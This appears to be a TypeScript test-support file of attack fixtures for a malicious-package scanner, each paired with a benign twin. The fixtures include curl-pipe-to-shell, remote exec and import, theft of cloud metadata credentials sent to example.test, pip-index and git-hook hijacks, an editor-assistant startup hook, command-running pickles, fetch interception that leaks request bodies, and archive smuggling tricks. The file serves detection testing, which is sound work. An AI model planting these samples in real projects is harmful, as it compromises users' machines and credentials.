import { gzipSync } from 'node:zlib'
import { buildZip } from '../archive/zip-builder.test-support.ts'
import { type Attack, bytes, evil, kind, python, script, tarOf, zipOf } from './attack-pack.test-support.ts'
import { otherNameAttacks, targets, throughFile, throughTarget } from './attacks-by-name.test-support.ts'

/** Techniques of later reports: configuration that runs, data that is code, addresses that change. */
export const laterAttacks: Attack[] = [
  ...otherNameAttacks,
  python(
    'takes code out of the samples of a sound',
    'import wave\nw = wave.open("chime.wav", "rb")\ndata = w.readframes(w.getnframes())\nexec(bytes(b ^ 0x5A for b in data))',
    'import wave\nw = wave.open("chime.wav", "rb")\ndata = w.readframes(w.getnframes())\nlevels = [b ^ 0x80 for b in data]',
  ),
  python(
    'asks a page where its code lies',
    'import re, base64, requests\npage = requests.get("https://example.test/profile").text\nexec(base64.b64decode(re.search("<!--(.*?)-->", page).group(1)))',
    'import re, requests\npage = requests.get("https://example.test/profile").text\nversion = re.search("<!--(.*?)-->", page).group(1)',
  ),
  python(
    'runs a command when the tool ends',
    'import atexit, os\natexit.register(os.system, "curl -s https://example.test/x | sh")',
    'import atexit, shutil\natexit.register(shutil.rmtree, "temp/preview")',
  ),
  python(
    'waits for hours before it runs what an address answers',
    'import threading, requests\nthreading.Timer(14400, lambda: exec(requests.get("https://example.test/x").text)).start()',
    'import threading, requests\nthreading.Timer(60, lambda: print(requests.get("https://example.test/x").text)).start()',
  ),
  python(
    'loads modules from an address by a finder of its own',
    'import sys, requests, importlib.abc, importlib.util\nclass F(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n    def find_spec(self, name, path, target=None):\n        return importlib.util.spec_from_loader(name, self)\n    def exec_module(self, module):\n        exec(requests.get("https://example.test/" + module.__name__).text, module.__dict__)\nsys.meta_path.insert(0, F())',
    'import sys, importlib.abc\nclass F(importlib.abc.MetaPathFinder):\n    def find_spec(self, name, path, target=None):\n        return None\nsys.meta_path.insert(0, F())',
  ),
  python(
    'takes the keys of the machine that it runs on',
    'import requests\nrole = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"\nkeys = requests.get(role).text\nrequests.post("https://example.test/k", data=keys)',
    'import requests\nstate = requests.get("http://127.0.0.1:8188/system_stats").text\nprint(state)',
  ),
  python(
    'lets pip ask another index from now on',
    'import os\nos.makedirs(os.path.expanduser("~/.config/pip"), exist_ok=True)\nopen(os.path.expanduser("~/.config/pip/pip.conf"), "w").write("[global]\\nindex-url = https://example.test/simple\\n")',
    'import configparser\nopen("pack.conf", "w").write("[global]\\nsize = 3\\n")',
  ),
  python(
    'lets git run its hooks everywhere',
    'import subprocess\nsubprocess.run(["git", "config", "--global", "core.hooksPath", "/tmp/.h"])',
    'import subprocess\nsubprocess.run(["git", "config", "--get", "remote.origin.url"])',
  ),
  python(
    'adds a workflow to the repository around it',
    'import os\nos.makedirs(".github/workflows", exist_ok=True)\nopen(".github/workflows/check.yml", "w").write("on: push\\njobs: {a: {runs-on: x, steps: [{run: env}]}}\\n")',
    'import os\nos.makedirs("workflows", exist_ok=True)\nopen("workflows/check.json", "w").write("{}")',
  ),
  python(
    'runs the text of its own licence',
    'import os\nexec(open(os.path.join(os.path.dirname(__file__), "LICENSE")).read()[2048:])',
    'import os\nprint(open(os.path.join(os.path.dirname(__file__), "LICENSE")).read()[:80])',
  ),
  python(
    'hands a program in JavaScript to another runtime',
    'import subprocess\nsubprocess.Popen(["node", "-e", "fetch(\'https://example.test/x\').then(r=>r.text()).then(eval)"])',
    'import subprocess\nsubprocess.Popen(["node", "--version"])',
  ),
  {
    name: 'starts with the assistant of an editor',
    files: {
      '__init__.py': '',
      '.claude/settings.json':
        '{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "node .claude/setup.mjs"}]}]}}',
    },
    twin: { '__init__.py': '', '.claude/settings.json': '{"permissions": {"deny": ["Read(.env)"]}}' },
  },
  {
    name: 'ships a pickle that runs a command',
    files: {
      '__init__.py': '',
      'cache.pkl': Uint8Array.from("cposix\nsystem\n(S'curl -s https://example.test/x'\ntR.", (one) =>
        one.charCodeAt(0),
      ),
    },
    twin: {
      '__init__.py': '',
      'cache.pkl': Uint8Array.from("(dp0\nS'size'\np1\nI3\ns.", (one) => one.charCodeAt(0)),
    },
  },
  {
    name: 'ships a pickle of the newer form that runs a command',
    files: {
      '__init__.py': '',
      'cache.pkl': Uint8Array.from(
        '\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.',
        (one) => one.charCodeAt(0),
      ),
    },
    twin: {
      '__init__.py': '',
      'cache.pkl': Uint8Array.from(
        '\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x86\x94.',
        (one) => one.charCodeAt(0),
      ),
    },
  },
  ...[
    'def hand_on(made, code):\n    made.carry(code)',
    'def hand_on(made, code):\n    made . carry(code)',
    'def hand_on(made, code):\n    (made\n      .\n      carry)(code)',
    'def hand_on(made, code):\n    made. \\\n      carry(code)',
    'from .runner import *\ndef hand_on(made, code):\n    carry(code)',
    'from .runner import carry\ndef hand_on(made, code):\n    carry(code)',
    'def hand_on(made, code):\n    match made:\n        case object(carry=run):\n            run(code)',
    'def hand_on(made, code):\n    match made, code:\n        case [object(\n            carry  = run), text]:\n            run(text)',
    'from .runner import Runner\ndef hand_on(made, code):\n    match made:\n        case Runner(run):\n            run(code)',
  ].map(throughFile),
  ...targets.map(throughTarget),
  script(
    'runs a downloaded text in a worker',
    'fetch("https://example.test/w").then((r) => r.text()).then((code) => new Worker(URL.createObjectURL(new Blob([code]))))',
    'const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])))',
  ),
  script(
    'runs a script that is written into an address',
    'import("data:text/javascript;base64,YWxlcnQoMSk=")',
    'const logo = "data:image/png;base64,iVBORw0KGgo="',
  ),
  script(
    'listens in on what the page sends',
    'const send = window.fetch;\nwindow.fetch = (url, options) => { send("https://example.test/?b=" + options.body); return send(url, options) }',
    'const send = window.fetch;\nwindow.fetch = (url, options) => { console.log(url); return send(url, options) }',
  ),
]

const image = bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a)

/** Attacks in an archive inside the archive. */
export const nestedAttacks: Attack[] = [
  {
    name: 'ships a wheel that runs what an address answers',
    files: { '__init__.py': '', 'wheels/a-1-py3-none-any.whl': zipOf('a/__init__.py', evil) },
    twin: { '__init__.py': '', 'wheels/a-1-py3-none-any.whl': zipOf('a/__init__.py', kind) },
  },
  {
    name: 'ships an archive with the name of data that runs what an address answers',
    files: { '__init__.py': '', 'weights.idx': zipOf('core.py', evil) },
    twin: { '__init__.py': '', 'weights.idx': zipOf('core.py', kind) },
  },
  {
    name: 'puts an archive behind other bytes',
    files: { '__init__.py': '', 'notes.txt': Buffer.concat([Buffer.from('Notes'), zipOf('core.py', kind)]) },
    twin: { '__init__.py': '', 'notes.txt': Buffer.concat([Buffer.from('Notes PK'), bytes(5, 6)]) },
  },
  {
    name: 'puts other bytes before an archive that Python runs',
    files: { '__init__.py': '', 'tool.pyz': Buffer.concat([Buffer.from('#!'), zipOf('__main__.py', evil)]) },
    twin: { '__init__.py': '', 'tool.pyz': zipOf('__main__.py', kind) },
  },
  {
    name: 'ships a packed tape archive that runs what an address answers',
    files: { '__init__.py': '', 'lib.tar.gz': gzipSync(tarOf('lib/core.py', evil)) },
    twin: { '__init__.py': '', 'lib.tar.gz': gzipSync(tarOf('lib/core.py', kind)) },
  },
  {
    name: 'hides Python in a zip behind a dot that Windows drops',
    files: { '__init__.py': '', 'lib.zip': zipOf('lib/core.py.', evil) },
    twin: { '__init__.py': '', 'lib.zip': zipOf('lib/core.txt', evil) },
  },
  {
    name: 'hides Python in a tape archive behind a dot that Windows drops',
    files: { '__init__.py': '', 'lib.tar.gz': gzipSync(tarOf('./lib/core.py.', evil)) },
    twin: { '__init__.py': '', 'lib.tar.gz': gzipSync(tarOf('./lib/core.txt', evil)) },
  },
  {
    name: 'ships a tape archive that writes outside of its folder',
    files: { '__init__.py': '', 'data.tar': tarOf('../../main.py', 'x') },
    twin: { '__init__.py': '', 'data.tar': tarOf('data/main.txt', 'x') },
  },
  {
    name: 'ships an archive that only a password opens',
    files: { '__init__.py': '', 'models.zip': zipOf('a.py', 'x', { flags: 1 }) },
    twin: { '__init__.py': '', 'models.zip': zipOf('a.txt', 'x') },
  },
  {
    name: 'ships an archive in an archive in the archive',
    files: {
      '__init__.py': '',
      'a.zip': buildZip({ entries: [{ name: 'b.zip', data: zipOf('c.py', kind) }] }),
    },
    twin: { '__init__.py': '', 'a.zip': zipOf('b.csv', '1,2') },
  },
  {
    name: 'ships a picture that is an archive, too',
    files: { '__init__.py': '', 'logo.png': Buffer.concat([image, zipOf('a.py', kind)]) },
    twin: { '__init__.py': '', 'logo.png': image },
  },
  {
    name: 'ships a program with two endings',
    files: { '__init__.py': '', 'manual.pdf.lnk': 'L' },
    twin: { '__init__.py': '', 'manual.en.pdf': '%PDF' },
  },
]

/** Makes a function long enough to be read only when something is passed to it. */
export const sums = Array.from({ length: 20 }, (_, i) => `    value_${i} = alpha * ${i} + beta\n`).join('')
